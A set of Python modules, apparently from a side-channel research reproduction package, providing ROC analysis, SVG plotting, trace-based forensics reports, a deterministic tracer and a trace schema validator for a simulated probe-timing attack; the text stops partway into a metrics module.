    """One operating point of the classifier."""

    __slots__ = ("threshold", "tpr", "fpr")

    def __init__(self, threshold, tpr, fpr):
        self.threshold = threshold
        self.tpr = tpr
        self.fpr = fpr

    def __repr__(self):
        return "RocPoint(thr={}, tpr={:.3f}, fpr={:.3f})".format(
            self.threshold, self.tpr, self.fpr
        )


def roc_curve(mapped_samples, unmapped_samples):
    """All achievable (fpr, tpr) operating points, threshold-sorted.

    Includes the degenerate endpoints (0,0) and (1,1).
    """
    if not mapped_samples or not unmapped_samples:
        raise ValueError("both classes need samples")
    thresholds = sorted(set(mapped_samples) | set(unmapped_samples))
    n_pos = len(mapped_samples)
    n_neg = len(unmapped_samples)
    points = [RocPoint(float("-inf"), 0.0, 0.0)]
    for threshold in thresholds:
        tpr = sum(1 for v in mapped_samples if v <= threshold) / n_pos
        fpr = sum(1 for v in unmapped_samples if v <= threshold) / n_neg
        points.append(RocPoint(threshold, tpr, fpr))
    return points


def auc(points):
    """Trapezoidal area under a :func:`roc_curve` result."""
    ordered = sorted(points, key=lambda p: (p.fpr, p.tpr))
    area = 0.0
    for a, b in zip(ordered, ordered[1:]):
        area += (b.fpr - a.fpr) * (a.tpr + b.tpr) / 2.0
    return area


def youden_threshold(points):
    """The threshold maximizing TPR - FPR (Youden's J statistic)."""
    best = max(points, key=lambda p: p.tpr - p.fpr)
    return best.threshold, best.tpr - best.fpr


def classifier_auc(mapped_samples, unmapped_samples):
    """Shorthand: AUC straight from labelled samples."""
    return auc(roc_curve(mapped_samples, unmapped_samples))
