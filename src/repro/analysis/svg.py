"""Minimal SVG chart rendering (no dependencies).

The benches' primary artifacts are text tables, but the paper's figures
are plots; this module renders the three shapes they need -- scatter
(Figure 4's probe trace), step/line series (Figure 6's spy traces) and
histograms (Figure 2's distributions) -- as standalone SVG strings.
"""

from xml.sax.saxutils import escape

MARGIN = 46
WIDTH = 640
HEIGHT = 360

_AXIS_STYLE = 'stroke="#444" stroke-width="1"'
_GRID_STYLE = 'stroke="#ddd" stroke-width="0.5"'
_TEXT = '<text x="{x:.1f}" y="{y:.1f}" font-size="{size}" ' \
        'font-family="sans-serif" fill="#222"{extra}>{text}</text>'


class Axes:
    """Maps data coordinates onto the SVG canvas."""

    def __init__(self, x_range, y_range, width=WIDTH, height=HEIGHT):
        self.x_lo, self.x_hi = x_range
        self.y_lo, self.y_hi = y_range
        if self.x_hi == self.x_lo:
            self.x_hi = self.x_lo + 1
        if self.y_hi == self.y_lo:
            self.y_hi = self.y_lo + 1
        self.width = width
        self.height = height

    def x(self, value):
        span = self.x_hi - self.x_lo
        return MARGIN + (value - self.x_lo) / span * (self.width - 2 * MARGIN)

    def y(self, value):
        span = self.y_hi - self.y_lo
        return (self.height - MARGIN) - (value - self.y_lo) / span * (
            self.height - 2 * MARGIN
        )

    def frame(self, title, x_label, y_label):
        parts = []
        parts.append(
            '<rect x="{0}" y="{0}" width="{1}" height="{2}" fill="none" '
            "{3}/>".format(
                MARGIN, self.width - 2 * MARGIN, self.height - 2 * MARGIN,
                _AXIS_STYLE,
            )
        )
        parts.append(_TEXT.format(
            x=self.width / 2, y=MARGIN - 16, size=14, text=escape(title),
            extra=' text-anchor="middle" font-weight="bold"',
        ))
        parts.append(_TEXT.format(
            x=self.width / 2, y=self.height - 8, size=11,
            text=escape(x_label), extra=' text-anchor="middle"',
        ))
        parts.append(
            '<text x="14" y="{:.1f}" font-size="11" font-family="sans-serif"'
            ' fill="#222" text-anchor="middle" transform="rotate(-90 14 '
            '{:.1f})">{}</text>'.format(
                self.height / 2, self.height / 2, escape(y_label)
            )
        )
        # 4 horizontal gridlines + labels
        for i in range(5):
            value = self.y_lo + (self.y_hi - self.y_lo) * i / 4
            y = self.y(value)
            parts.append(
                '<line x1="{}" y1="{:.1f}" x2="{}" y2="{:.1f}" {}/>'.format(
                    MARGIN, y, self.width - MARGIN, y, _GRID_STYLE
                )
            )
            parts.append(_TEXT.format(
                x=MARGIN - 6, y=y + 3, size=9,
                text="{:g}".format(round(value, 1)),
                extra=' text-anchor="end"',
            ))
        for i in range(5):
            value = self.x_lo + (self.x_hi - self.x_lo) * i / 4
            x = self.x(value)
            parts.append(_TEXT.format(
                x=x, y=self.height - MARGIN + 14, size=9,
                text="{:g}".format(round(value, 1)),
                extra=' text-anchor="middle"',
            ))
        return parts


def _document(body):
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="{}" height="{}" '
        'viewBox="0 0 {} {}">\n<rect width="100%" height="100%" '
        'fill="white"/>\n{}\n</svg>\n'.format(
            WIDTH, HEIGHT, WIDTH, HEIGHT, "\n".join(body)
        )
    )


def scatter(points, title="", x_label="", y_label="", highlight=None,
            y_range=None):
    """Scatter plot; ``highlight(x, y) -> bool`` colors matching points.

    The Figure 4 trace: slot index vs probe cycles, mapped run
    highlighted.
    """
    if not points:
        raise ValueError("scatter needs at least one point")
    xs = [x for x, __ in points]
    ys = [y for __, y in points]
    if y_range is None:
        pad = (max(ys) - min(ys)) * 0.1 + 1
        y_range = (min(ys) - pad, max(ys) + pad)
    axes = Axes((min(xs), max(xs)), y_range)
    body = axes.frame(title, x_label, y_label)
    for x, y in points:
        hot = highlight is not None and highlight(x, y)
        body.append(
            '<circle cx="{:.1f}" cy="{:.1f}" r="{}" fill="{}" '
            'fill-opacity="0.8"/>'.format(
                axes.x(x), axes.y(min(max(y, y_range[0]), y_range[1])),
                2.4 if hot else 1.6,
                "#c0392b" if hot else "#2c5f8a",
            )
        )
    return _document(body)


def line_series(series, title="", x_label="", y_label="", bands=None):
    """Line plot of one or more named series; optional shaded x-bands.

    The Figure 6 traces: spy timing vs wall time, active windows shaded.
    ``series`` is {name: [(x, y), ...]}; ``bands`` is [(x0, x1), ...].
    """
    all_points = [p for pts in series.values() for p in pts]
    if not all_points:
        raise ValueError("line_series needs data")
    xs = [x for x, __ in all_points]
    ys = [y for __, y in all_points]
    pad = (max(ys) - min(ys)) * 0.1 + 1
    axes = Axes((min(xs), max(xs)), (min(ys) - pad, max(ys) + pad))
    body = axes.frame(title, x_label, y_label)
    for x0, x1 in bands or ():
        body.insert(1, (
            '<rect x="{:.1f}" y="{}" width="{:.1f}" height="{}" '
            'fill="#aed6f1" fill-opacity="0.45"/>'.format(
                axes.x(x0), MARGIN, max(1.0, axes.x(x1) - axes.x(x0)),
                HEIGHT - 2 * MARGIN,
            )
        ))
    palette = ("#2c5f8a", "#c0392b", "#1e8449", "#7d3c98")
    for index, (name, points) in enumerate(sorted(series.items())):
        path = " ".join(
            "{}{:.1f},{:.1f}".format("M" if i == 0 else "L",
                                     axes.x(x), axes.y(y))
            for i, (x, y) in enumerate(sorted(points))
        )
        color = palette[index % len(palette)]
        body.append(
            '<path d="{}" fill="none" stroke="{}" stroke-width="1.6"/>'
            .format(path, color)
        )
        body.append(
            '<text x="{:.1f}" y="{:.1f}" font-size="10" '
            'font-family="sans-serif" text-anchor="end" fill="{}">{}'
            "</text>".format(
                WIDTH - MARGIN - 4, MARGIN + 14 + 13 * index, color,
                escape(name),
            )
        )
    return _document(body)


def histogram(samples, title="", x_label="", y_label="count", bins=32,
              color="#2c5f8a"):
    """Histogram of a timing sample (one Figure 2 panel)."""
    if not samples:
        raise ValueError("histogram needs data")
    lo, hi = min(samples), max(samples)
    if hi == lo:
        hi = lo + 1
    step = (hi - lo) / bins
    counts = [0] * bins
    for value in samples:
        counts[min(bins - 1, int((value - lo) / step))] += 1
    axes = Axes((lo, hi), (0, max(counts)))
    body = axes.frame(title, x_label, y_label)
    bar_width = (WIDTH - 2 * MARGIN) / bins
    for i, count in enumerate(counts):
        if not count:
            continue
        x = MARGIN + i * bar_width
        y = axes.y(count)
        body.append(
            '<rect x="{:.1f}" y="{:.1f}" width="{:.1f}" height="{:.1f}" '
            'fill="{}" fill-opacity="0.85"/>'.format(
                x, y, max(0.5, bar_width - 1),
                (HEIGHT - MARGIN) - y, color,
            )
        )
    return _document(body)
