"""Attack forensics: turn a trace into a human-readable post-mortem.

The trace answers *what happened*; this module answers *why the verdict
came out the way it did*: which chaos events fired mid-scan, how far the
decision threshold was re-anchored chunk by chunk, what the per-page-
class probe-timing distributions looked like, and where the simulated
time went (the span tree).  Rendered two ways:

* :func:`render_summary` -- a terminal-sized digest
  (``repro trace summarize``);
* :func:`render_report` -- a full markdown forensics report
  (``repro trace report``), the artifact to attach to a bug about a
  chaos-induced misclassification.
"""

from repro.obs.schema import load_trace, validate_trace

#: glyphs for the distribution sketches, lightest to heaviest
_SPARK = "▁▂▃▄▅▆▇█"


def summarize(records):
    """Fold a validated record list into one summary dict."""
    validate_trace(records)
    meta = records[0]["meta"]
    spans = {}
    roots = []
    span_counts = {}
    event_counts = {}
    chaos = []
    reanchors = []
    retries = []
    degradations = []
    verdict = None
    for record in records[1:-2]:
        if record["type"] == "span":
            node = {
                "id": record["id"],
                "name": record["name"],
                "start": record["start_cycles"],
                "end": record["end_cycles"],
                "attrs": record["attrs"],
                "children": [],
            }
            spans[record["id"]] = node
            entry = span_counts.setdefault(
                record["name"], {"count": 0, "cycles": 0}
            )
            entry["count"] += 1
            if node["start"] is not None and node["end"] is not None:
                entry["cycles"] += node["end"] - node["start"]
        else:
            kind = record["kind"]
            event_counts[kind] = event_counts.get(kind, 0) + 1
            if kind == "chaos":
                chaos.append(record)
            elif kind == "threshold-reanchor":
                reanchors.append(record)
            elif kind == "retry":
                retries.append(record)
            elif kind == "degradation":
                degradations.append(record)
            elif kind == "verdict":
                verdict = record["attrs"]
    # children close before parents, so every parent record appears
    # after its children: link in a second pass over close order
    for record in records[1:-2]:
        if record["type"] != "span":
            continue
        node = spans[record["id"]]
        if record["parent"] is None:
            roots.append(node)
        else:
            spans[record["parent"]]["children"].append(node)
    for node in spans.values():
        node["children"].sort(
            key=lambda child: (child["start"] is None, child["start"],
                               child["id"])
        )
    roots.sort(key=lambda n: (n["start"] is None, n["start"], n["id"]))

    metrics = records[-2]
    drifts = _reanchor_drifts(reanchors)
    return {
        "meta": meta,
        "verdict": verdict,
        "span_counts": span_counts,
        "span_tree": roots,
        "event_counts": event_counts,
        "chaos": chaos,
        "reanchors": reanchors,
        "reanchor_drifts": drifts,
        "retries": retries,
        "degradations": degradations,
        "counters": metrics["counters"],
        "histograms": metrics["histograms"],
        "wall_ms": records[-1].get("wall_ms"),
    }


def summarize_file(path):
    return summarize(load_trace(path))


def _reanchor_drifts(reanchors):
    """Threshold drift of each re-anchor relative to the first one."""
    thresholds = [
        event["attrs"]["threshold"] for event in reanchors
        if isinstance(event["attrs"].get("threshold"), (int, float))
    ]
    if not thresholds:
        return []
    first = thresholds[0]
    return [round(value - first, 3) for value in thresholds]


def _fmt_count_map(counts):
    return ", ".join(
        "{} x{}".format(name, entry)
        for name, entry in sorted(counts.items())
    ) or "none"


def render_summary(summary):
    """A compact, stable, terminal-sized digest of one trace."""
    meta = summary["meta"]
    lines = []
    lines.append("trace     : {} seed={} cpu={} chaos={}".format(
        meta.get("command", "?"), meta.get("seed"),
        meta.get("cpu"), meta.get("chaos_profile")))
    verdict = summary["verdict"]
    if verdict is not None:
        lines.append(
            "verdict   : {} value={} confidence={} retries={}".format(
                verdict.get("status"), verdict.get("value"),
                verdict.get("confidence"), verdict.get("retries")))
    else:
        lines.append("verdict   : (no verdict event; untraced or raw run)")
    lines.append("spans     : {}".format(_fmt_count_map({
        name: entry["count"]
        for name, entry in summary["span_counts"].items()
    })))
    lines.append("events    : {}".format(
        _fmt_count_map(summary["event_counts"])))
    chaos_kinds = {}
    for event in summary["chaos"]:
        kind = event["attrs"].get("kind", "?")
        chaos_kinds[kind] = chaos_kinds.get(kind, 0) + 1
    lines.append("chaos     : {}".format(_fmt_count_map(chaos_kinds)))
    drifts = summary["reanchor_drifts"]
    if drifts:
        lines.append(
            "reanchors : {} (threshold drift {:+.1f} .. {:+.1f} cycles)"
            .format(len(drifts), min(drifts), max(drifts)))
    else:
        lines.append("reanchors : none")
    classes = sorted(
        name.rsplit(".", 1)[1]
        for name in summary["histograms"]
        if name.startswith("engine.probe_cycles.")
    )
    lines.append("pageclass : {}".format(", ".join(classes) or "none"))
    return "\n".join(lines)


def _sketch(histogram):
    """One-line unicode sketch of a histogram's bucket counts."""
    counts = histogram["counts"]
    peak = max(counts) if any(counts) else 1
    return "".join(
        _SPARK[min(len(_SPARK) - 1,
                   (count * (len(_SPARK) - 1) + peak - 1) // peak)]
        if count else " "
        for count in counts
    )


def _fmt_cycles(value):
    return "{:,}".format(value) if value is not None else "?"


def _render_tree(node, indent, lines):
    duration = ""
    if node["start"] is not None and node["end"] is not None:
        duration = " ({} cy)".format(
            _fmt_cycles(node["end"] - node["start"]))
    attrs = ", ".join(
        "{}={}".format(key, value)
        for key, value in sorted(node["attrs"].items())
    )
    lines.append("{}- **{}**{}{}".format(
        "  " * indent, node["name"], duration,
        "  `{}`".format(attrs) if attrs else ""))
    for child in node["children"]:
        _render_tree(child, indent + 1, lines)


def render_report(summary):
    """The full markdown forensics report for one trace."""
    meta = summary["meta"]
    lines = ["# Attack forensics", ""]
    lines.append("| field | value |")
    lines.append("|---|---|")
    for key in sorted(meta):
        lines.append("| {} | {} |".format(key, meta[key]))
    if summary["wall_ms"] is not None:
        lines.append("| wall_ms | {} |".format(summary["wall_ms"]))
    lines.append("")

    verdict = summary["verdict"]
    lines.append("## Verdict")
    lines.append("")
    if verdict is None:
        lines.append("No verdict event (raw, unsupervised run).")
    else:
        lines.append("| field | value |")
        lines.append("|---|---|")
        for key in sorted(verdict):
            lines.append("| {} | {} |".format(key, verdict[key]))
    lines.append("")

    lines.append("## Span tree")
    lines.append("")
    if summary["span_tree"]:
        for root in summary["span_tree"]:
            _render_tree(root, 0, lines)
    else:
        lines.append("No spans recorded.")
    lines.append("")

    lines.append("## Chaos-event timeline")
    lines.append("")
    if summary["chaos"]:
        lines.append("| at (cycles) | kind | params |")
        lines.append("|---|---|---|")
        for event in summary["chaos"]:
            attrs = dict(event["attrs"])
            kind = attrs.pop("kind", "?")
            attrs.pop("applied_at", None)
            lines.append("| {} | {} | {} |".format(
                _fmt_cycles(event["at_cycles"]), kind,
                ", ".join("{}={}".format(k, v)
                          for k, v in sorted(attrs.get("params",
                                                       attrs).items()))))
    else:
        lines.append("No chaos events fired during this run.")
    lines.append("")

    lines.append("## Threshold re-anchoring")
    lines.append("")
    if summary["reanchors"]:
        lines.append("| at (cycles) | chunk | anchor | threshold |"
                     " drift vs first |")
        lines.append("|---|---|---|---|---|")
        for event, drift in zip(summary["reanchors"],
                                summary["reanchor_drifts"]):
            attrs = event["attrs"]
            lines.append("| {} | {} | {:.1f} | {:.1f} | {:+.1f} |".format(
                _fmt_cycles(event["at_cycles"]), attrs.get("chunk"),
                attrs.get("anchor", float("nan")),
                attrs.get("threshold", float("nan")), drift))
    else:
        lines.append("No per-chunk threshold re-anchors "
                     "(raw attack or scan-free run).")
    lines.append("")

    lines.append("## Probe-timing distributions by page class")
    lines.append("")
    sketched = False
    for name in sorted(summary["histograms"]):
        if not name.startswith("engine.probe_cycles."):
            continue
        sketched = True
        hist = summary["histograms"][name]
        mean = hist["total"] / hist["count"] if hist["count"] else 0.0
        lines.append("### {}".format(name.rsplit(".", 1)[1]))
        lines.append("")
        lines.append(
            "n={} min={} max={} mean={:.1f} cycles".format(
                hist["count"], hist["min"], hist["max"], mean))
        lines.append("")
        lines.append("```")
        lines.append(_sketch(hist))
        lines.append("".join("{:<4}".format("≤" + str(bound))
                             for bound in hist["buckets"][:16]))
        lines.append("```")
        lines.append("")
    if not sketched:
        lines.append("No per-page-class probe histograms "
                     "(tracing was off during the sweeps).")
        lines.append("")

    lines.append("## Counters")
    lines.append("")
    if summary["counters"]:
        lines.append("| counter | value |")
        lines.append("|---|---|")
        for name in sorted(summary["counters"]):
            lines.append("| {} | {} |".format(
                name, summary["counters"][name]))
    else:
        lines.append("No counters recorded.")
    lines.append("")
    return "\n".join(lines)
