"""Structured tracing: nested spans and typed events over simulated time.

A :class:`Tracer` records what an attack *did* -- the calibrate / scan /
chunk / repair / verdict structure as nested spans, and the punctual
facts (a threshold re-anchor, a chaos event firing, a retry, a
degradation) as typed events -- into an in-memory buffer that
:meth:`Tracer.finish` serializes as one JSONL document through the
crash-safe atomic writer in :mod:`repro.ioutil`.

Two properties are load-bearing:

* **determinism** -- every timestamp is read from the *simulated* clock
  (:class:`repro.cpu.clock.SimClock`), span ids are assigned in call
  order, and serialization sorts keys; two runs with the same seed
  therefore produce byte-identical traces except for the explicitly
  wall-clock fields (``wall_ms``; metric names containing ``wall``).
  Traces double as regression artifacts: diff them.
* **near-zero disabled cost** -- the default tracer on every core is the
  module-level :data:`NULL_TRACER` whose ``enabled`` flag is False.  Hot
  paths (the probe engine's per-VA loop, the walker) guard all per-item
  work with ``if tracer.enabled``; cold paths may call
  ``tracer.span(...)`` unconditionally, which on the null tracer returns
  a shared no-op context manager without allocating.
"""

import json

from repro.errors import TraceError
from repro.ioutil import write_atomic
from repro.obs.metrics import Metrics

#: schema tag stamped into the trace-start record and checked by
#: :mod:`repro.obs.schema`
TRACE_SCHEMA = "repro-trace/v1"


def _jsonable(value):
    """Coerce attribute values to plain JSON types (numpy scalars too)."""
    if isinstance(value, bool) or value is None \
            or isinstance(value, (str, int)):
        return value
    if isinstance(value, float):
        return float(value)
    if isinstance(value, dict):
        return {str(k): _jsonable(v) for k, v in value.items()}
    if isinstance(value, (list, tuple)):
        return [_jsonable(v) for v in value]
    item = getattr(value, "item", None)
    if callable(item):
        return _jsonable(item())
    return repr(value)


class _NullSpan:
    """The shared do-nothing span handle of the null tracer."""

    __slots__ = ()

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return False

    def set(self, **attrs):
        return self


NULL_SPAN = _NullSpan()


class NullTracer:
    """Tracer-shaped no-op; the default on every core.

    ``enabled`` is False, so guarded hot paths skip their instrumentation
    entirely; unguarded ``span``/``event`` calls cost one method call and
    allocate nothing.
    """

    __slots__ = ()
    enabled = False
    metrics = None

    def span(self, name, **attrs):
        return NULL_SPAN

    def event(self, _kind, **attrs):
        return None

    def finish(self, wall_ms=None):
        return []


#: the module-level null tracer every Core starts with
NULL_TRACER = NullTracer()


class Span:
    """An open span: a named interval of simulated time with attributes.

    Use as a context manager (the normal case) or close explicitly via
    the owning tracer.  :meth:`set` attaches attributes discovered
    mid-span (e.g. the calibration threshold once it is known).
    """

    __slots__ = ("tracer", "id", "parent", "name", "start_cycles", "attrs")

    def __init__(self, tracer, span_id, parent, name, start_cycles, attrs):
        self.tracer = tracer
        self.id = span_id
        self.parent = parent
        self.name = name
        self.start_cycles = start_cycles
        self.attrs = attrs

    def set(self, **attrs):
        self.attrs.update(attrs)
        return self

    def __enter__(self):
        return self

    def __exit__(self, exc_type, exc, tb):
        if exc_type is not None:
            self.attrs.setdefault("error", exc_type.__name__)
        self.tracer.close_span(self)
        return False


class Tracer:
    """Buffered span/event recorder bound to a simulated clock.

    ``path`` (optional) is where :meth:`finish` atomically writes the
    JSONL document; without it the records are only returned.  ``clock``
    supplies timestamps -- normally wired by :meth:`attach`; a tracer
    without a clock (the campaign runner's) records ``null`` timestamps.
    ``enabled=False`` builds a tracer that is attached but dormant --
    the hot-path guards see it exactly like :data:`NULL_TRACER` (the
    no-op-overhead tests compare the two).
    """

    def __init__(self, path=None, clock=None, meta=None, metrics=None,
                 enabled=True):
        self.path = path
        self.clock = clock
        self.enabled = enabled
        self.meta = dict(meta or {})
        self.metrics = metrics if metrics is not None else Metrics()
        self._records = []
        self._stack = []
        self._next_id = 0
        self._span_count = 0
        self._event_count = 0
        self._tlb_baseline = None
        self._tlb = None
        self._finished = False

    # -- wiring ----------------------------------------------------------------

    def attach(self, machine):
        """Bind to ``machine``: clock, core, walker, and run metadata.

        After this, the machine's probe engine, walker, supervisor and
        chaos runtime all see this tracer through ``core.obs``; the TLB
        hit/miss counters are snapshotted so :meth:`finish` can report
        the deltas accrued during the traced run.
        """
        core = machine.core
        self.clock = core.clock
        core.obs = self
        core.walker.obs = self
        self._tlb = core.tlb
        self._tlb_baseline = core.tlb.stats()
        self.meta.setdefault("cpu", machine.cpu.name)
        self.meta.setdefault("os", machine.os_family)
        self.meta.setdefault("seed", machine.seed)
        self.meta.setdefault(
            "chaos_profile",
            machine.chaos.profile.name if machine.chaos is not None else None,
        )
        return self

    def _now(self):
        return self.clock.cycles if self.clock is not None else None

    # -- spans and events ------------------------------------------------------

    def span(self, name, **attrs):
        """Open a nested span; close it via ``with`` (or ``close_span``)."""
        if not self.enabled:
            return NULL_SPAN
        parent = self._stack[-1].id if self._stack else None
        span = Span(self, self._next_id, parent, name, self._now(),
                    attrs)
        self._next_id += 1
        self._stack.append(span)
        return span

    def close_span(self, span):
        """Close ``span``; spans must close innermost-first."""
        if not self._stack or self._stack[-1] is not span:
            raise TraceError(
                "span {!r} (id {}) closed out of order; open stack: {}"
                .format(span.name, span.id,
                        [s.name for s in self._stack])
            )
        self._stack.pop()
        self._span_count += 1
        self._records.append({
            "type": "span",
            "id": span.id,
            "parent": span.parent,
            "name": span.name,
            "start_cycles": span.start_cycles,
            "end_cycles": self._now(),
            "attrs": _jsonable(span.attrs),
        })

    def event(self, _kind, **attrs):
        """Record one punctual typed event inside the current span.

        The positional-only-by-convention ``_kind`` name keeps the attr
        namespace clean: callers may attach an attribute called ``kind``
        (the chaos events do).
        """
        if not self.enabled:
            return None
        record = {
            "type": "event",
            "kind": _kind,
            "span": self._stack[-1].id if self._stack else None,
            "at_cycles": self._now(),
            "attrs": _jsonable(attrs),
        }
        self._event_count += 1
        self._records.append(record)
        return record

    # -- finalization ----------------------------------------------------------

    def _harvest_tlb(self):
        if self._tlb is None:
            return
        for name, (hits, misses) in sorted(self._tlb.stats().items()):
            base_hits, base_misses = self._tlb_baseline.get(name, (0, 0))
            self.metrics.inc("tlb.{}.hits".format(name), hits - base_hits)
            self.metrics.inc("tlb.{}.misses".format(name),
                             misses - base_misses)

    def finish(self, wall_ms=None):
        """Seal the trace; write it to ``path`` if one was given.

        Returns the full record list: a ``trace-start`` header, every
        span/event in emission order, one ``metrics`` record, and a
        ``trace-finish`` footer.  ``wall_ms`` is the only wall-clock
        field in an attack trace (campaign traces additionally carry
        ``wall``-named metrics); determinism comparisons strip it via
        :func:`repro.obs.schema.strip_wall_fields`.
        """
        if self._finished:
            raise TraceError("tracer already finished")
        if self._stack:
            raise TraceError(
                "trace finished with open spans: {}".format(
                    [s.name for s in self._stack]
                )
            )
        self._finished = True
        self._harvest_tlb()
        metrics = self.metrics.as_dict()
        records = [{
            "type": "trace-start",
            "schema": TRACE_SCHEMA,
            "meta": _jsonable(self.meta),
        }]
        records.extend(self._records)
        records.append({
            "type": "metrics",
            "counters": metrics["counters"],
            "histograms": metrics["histograms"],
        })
        records.append({
            "type": "trace-finish",
            "spans": self._span_count,
            "events": self._event_count,
            "wall_ms": round(wall_ms, 3) if wall_ms is not None else None,
        })
        if self.path is not None:
            write_atomic(self.path, serialize(records))
        return records


def serialize(records):
    """Canonical JSONL serialization (sorted keys, compact separators)."""
    return "".join(
        json.dumps(record, sort_keys=True, separators=(",", ":")) + "\n"
        for record in records
    )
