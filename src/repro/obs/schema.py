"""The ``repro-trace/v1`` schema: validation and determinism helpers.

A trace is a JSONL document with four record types::

    {"type": "trace-start", "schema": "repro-trace/v1", "meta": {...}}
    {"type": "span", "id": 0, "parent": null, "name": "...",
     "start_cycles": 123, "end_cycles": 456, "attrs": {...}}
    {"type": "event", "kind": "...", "span": 0, "at_cycles": 130,
     "attrs": {...}}
    {"type": "metrics", "counters": {...}, "histograms": {...}}
    {"type": "trace-finish", "spans": N, "events": M, "wall_ms": ...}

Structural rules enforced here:

* exactly one ``trace-start`` (first) and one ``trace-finish`` (last),
  with one ``metrics`` record just before the footer;
* span ids are unique, parents reference existing spans, and -- because
  spans are emitted at *close* -- every child record precedes its
  parent's and nests inside the parent's ``[start, end]`` interval;
* events reference the enclosing open span (or ``null`` at top level);
* timestamps are simulated cycles (ints) or ``null`` for clock-less
  tracers (the campaign runner's); the footer's ``wall_ms`` and any
  metric whose name contains ``wall`` are the only wall-clock values.

:func:`strip_wall_fields` removes exactly those wall-clock values, which
is the equality modulo used by the byte-determinism tests and the CI
trace-smoke job.
"""

import json
import pathlib

from repro.errors import TraceError
from repro.obs.trace import TRACE_SCHEMA, serialize

#: record keys that may legitimately differ between reruns of one seed
WALL_FIELDS = ("wall_ms",)


def load_trace(path):
    """Parse a JSONL trace file into a list of record dicts."""
    records = []
    for number, line in enumerate(
        pathlib.Path(path).read_text().splitlines(), start=1
    ):
        if not line.strip():
            continue
        try:
            records.append(json.loads(line))
        except json.JSONDecodeError as error:
            raise TraceError(
                "trace {} line {}: not valid JSON ({})".format(
                    path, number, error
                )
            ) from error
    return records


def _require(condition, message, *args):
    if not condition:
        raise TraceError(message.format(*args))


def _check_cycles(value, what):
    _require(value is None or isinstance(value, int) and value >= 0,
             "{} must be a non-negative int or null, got {!r}", what, value)


def validate_trace(records):
    """Validate a record list against ``repro-trace/v1``.

    Returns a small stats dict (span/event/metric counts) on success;
    raises :class:`~repro.errors.TraceError` naming the first offence.
    """
    _require(bool(records), "empty trace")
    head, tail = records[0], records[-1]
    _require(head.get("type") == "trace-start",
             "first record must be trace-start, got {!r}", head.get("type"))
    _require(head.get("schema") == TRACE_SCHEMA,
             "unknown trace schema {!r} (expected {!r})",
             head.get("schema"), TRACE_SCHEMA)
    _require(isinstance(head.get("meta"), dict),
             "trace-start.meta must be an object")
    _require(tail.get("type") == "trace-finish",
             "last record must be trace-finish, got {!r}", tail.get("type"))
    _require(len(records) >= 3
             and records[-2].get("type") == "metrics",
             "the record before trace-finish must be metrics")

    spans = {}
    events = 0
    for position, record in enumerate(records[1:-2], start=1):
        kind = record.get("type")
        if kind == "span":
            span_id = record.get("id")
            _require(isinstance(span_id, int),
                     "span record at position {} has no integer id",
                     position)
            _require(span_id not in spans,
                     "duplicate span id {}", span_id)
            _require(isinstance(record.get("name"), str),
                     "span {} has no name", span_id)
            _check_cycles(record.get("start_cycles"),
                          "span {}.start_cycles".format(span_id))
            _check_cycles(record.get("end_cycles"),
                          "span {}.end_cycles".format(span_id))
            start, end = record.get("start_cycles"), record.get("end_cycles")
            if start is not None and end is not None:
                _require(start <= end,
                         "span {} ends ({}) before it starts ({})",
                         span_id, end, start)
            parent = record.get("parent")
            _require(parent is None or isinstance(parent, int),
                     "span {}.parent must be an id or null", span_id)
            if parent is not None:
                # close-order emission: a parent closes after its
                # children, so it cannot have been emitted yet
                _require(parent not in spans,
                         "span {} references parent {} that closed "
                         "before it", span_id, parent)
            spans[span_id] = record
        elif kind == "event":
            _require(isinstance(record.get("kind"), str),
                     "event at position {} has no kind", position)
            _check_cycles(record.get("at_cycles"),
                          "event at position {}".format(position))
            span_ref = record.get("span")
            _require(span_ref is None or isinstance(span_ref, int),
                     "event at position {}: span must be an id or null",
                     position)
            if span_ref is not None:
                # the referenced span was open when the event fired, so
                # its close record comes later in the stream
                _require(span_ref not in spans,
                         "event at position {} references span {} that "
                         "already closed", position, span_ref)
            events += 1
        else:
            raise TraceError(
                "unexpected record type {!r} at position {}".format(
                    kind, position
                )
            )

    # parent/nesting pass over the completed span table
    for span_id, record in spans.items():
        parent = record.get("parent")
        if parent is None:
            continue
        _require(parent in spans,
                 "span {} references unknown parent {}", span_id, parent)
        outer = spans[parent]
        for edge in ("start_cycles", "end_cycles"):
            if record[edge] is None or outer[edge] is None:
                break
        else:
            _require(
                outer["start_cycles"] <= record["start_cycles"]
                and record["end_cycles"] <= outer["end_cycles"],
                "span {} [{}, {}] not nested inside parent {} [{}, {}]",
                span_id, record["start_cycles"], record["end_cycles"],
                parent, outer["start_cycles"], outer["end_cycles"],
            )

    metrics = records[-2]
    for field in ("counters", "histograms"):
        _require(isinstance(metrics.get(field), dict),
                 "metrics.{} must be an object", field)
    _require(tail.get("spans") == len(spans),
             "trace-finish counts {} spans, found {}",
             tail.get("spans"), len(spans))
    _require(tail.get("events") == events,
             "trace-finish counts {} events, found {}",
             tail.get("events"), events)
    return {
        "spans": len(spans),
        "events": events,
        "counters": len(metrics["counters"]),
        "histograms": len(metrics["histograms"]),
    }


def validate_trace_file(path):
    """Load + validate a trace file; returns the stats dict."""
    return validate_trace(load_trace(path))


def strip_wall_fields(records):
    """Deep-copy ``records`` with every wall-clock value removed.

    Drops the :data:`WALL_FIELDS` keys from every record and every
    counter/histogram whose name contains ``wall`` -- the exact "modulo
    wall clock" under which two same-seed traces must be byte-identical.
    """
    stripped = json.loads(json.dumps(records))
    for record in stripped:
        for field in WALL_FIELDS:
            record.pop(field, None)
        if record.get("type") == "metrics":
            for field in ("counters", "histograms"):
                record[field] = {
                    name: value for name, value in record[field].items()
                    if "wall" not in name
                }
    return stripped


def canonical_bytes(records):
    """Serialized form of ``records`` after wall-field stripping."""
    return serialize(strip_wall_fields(records)).encode("utf-8")
