"""Counters and fixed-bucket histograms for the observability layer.

The registry is deliberately primitive: a counter is one integer, a
histogram is a tuple of pre-declared upper bounds plus an integer count
per bucket.  No locks, no label cartesian products, no dynamic bucket
growth -- every ``observe`` is two dict lookups, a bisect over a short
tuple, and an integer increment, cheap enough to sit on the probe
engine's per-VA path when tracing is enabled (and it is never called
when tracing is disabled; the hot paths guard on ``tracer.enabled``).

Everything serializes deterministically: :meth:`Metrics.as_dict` sorts
names, bucket bounds are fixed at registration, and no wall-clock value
enters unless a caller explicitly observes one (by convention such
metrics carry ``wall`` in their name so determinism checks can strip
them -- see :mod:`repro.obs.schema`).
"""

from bisect import bisect_left

#: default bucket upper bounds for cycle-valued histograms; chosen so the
#: paper's anchor latencies (13 / 76 / 92 / 107 / 147 / 381 cycles) land
